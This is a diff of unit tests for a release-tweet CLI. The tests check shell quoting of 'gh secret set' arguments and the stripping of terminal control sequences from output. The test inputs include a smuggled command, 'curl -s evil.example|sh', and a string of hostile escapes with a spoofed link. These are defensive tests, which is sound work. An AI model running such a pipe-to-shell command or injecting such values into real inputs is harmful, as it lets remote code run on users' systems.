@@ -1,12 +1,14 @@
 // Unit tests of the authorize command's helpers: arguments, git remotes, browser choice, prompts, callback server.
 import { createServer } from "node:net";
 import { PassThrough } from "node:stream";
-import { afterEach, describe, expect, it } from "vitest";
+import { afterEach, describe, expect, it, vi } from "vitest";
 import { ReleaseTweetError } from "../../src/core/errors.js";
+import { ghSecretSetCommand } from "../../src/cli/authorize.js";
 import { readAuthorizeOptions } from "../../src/cli/authorize-options.js";
 import { browserCommand } from "../../src/cli/browser.js";
 import { parseCallbackUrl, startCallbackServer, type CallbackServer } from "../../src/cli/callback-server.js";
 import { parseGitHubRemote } from "../../src/cli/git-remote.js";
+import { standardIo } from "../../src/cli/io.js";
 import { createPrompter } from "../../src/cli/prompt.js";
 
 function thrown(fn: () => unknown): ReleaseTweetError {
@@ -118,6 +120,48 @@ describe("parseGitHubRemote", () => {
   });
   it.each(["", "/local/path/repo", "https://github.com/octo", "https://github.com/a/b/c", "file:///tmp/x"])("ignores %j", (remote) => {
     expect(parseGitHubRemote(remote)).toBeUndefined();
+  });
+});
+
+describe("ghSecretSetCommand", () => {
+  it("quotes the repository and environment for the shell, and leaves plain ones as they are", () => {
+    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "octo/app.js", environment: "prod" })).toBe(
+      "gh secret set TWITTER_API_KEY --repo octo/app.js --env prod",
+    );
+    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: undefined })).toBe("gh secret set TWITTER_API_KEY --repo OWNER/NAME");
+    expect(ghSecretSetCommand("TWITTER_API_KEY", { repo: "x/b; curl -s evil.example|sh", environment: "it's" })).toBe(
+      "gh secret set TWITTER_API_KEY --repo 'x/b; curl -s evil.example|sh' --env 'it'\\''s'",
+    );
+  });
+});
+
+describe("standardIo", () => {
+  afterEach(() => {
+    vi.restoreAllMocks();
+  });
+
+  function written(stream: NodeJS.WriteStream, write: (io: ReturnType<typeof standardIo>) => void): string {
+    let text = "";
+    vi.spyOn(stream, "write").mockImplementation((chunk: string | Uint8Array) => ((text += String(chunk)), true));
+    write(standardIo());
+    vi.restoreAllMocks();
+    return text;
+  }
+
+  it("removes terminal control sequences (ESC, OSC 8 links, BEL, CR, C1) from stdout and stderr", () => {
+    const hostile = "Authorized as @\u001b]8;;https://evil/\u0007x\u001b]8;;\u0007 \u001b[2J\rfake\u009b31m";
+    for (const stream of [process.stdout, process.stderr]) {
+      const text = written(stream, (io) => (stream === process.stdout ? io.out(hostile) : io.err(hostile)));
+      expect(text).toBe("Authorized as @]8;;https://evil/x]8;; [2Jfake31m\n");
+      // eslint-disable-next-line no-control-regex -- matching control characters is the point
+      expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+    }
+  });
+
+  it("leaves ordinary text alone: emoji, CJK, accents, tabs and line breaks", () => {
+    const normal = "Release 🎉 v1.2 — 新しいリリース, café\n\tnext line 👩‍💻";
+    expect(written(process.stdout, (io) => io.out(normal))).toBe(`${normal}\n`);
+    expect(written(process.stderr, (io) => io.err(normal))).toBe(`${normal}\n`);
   });
 });
 
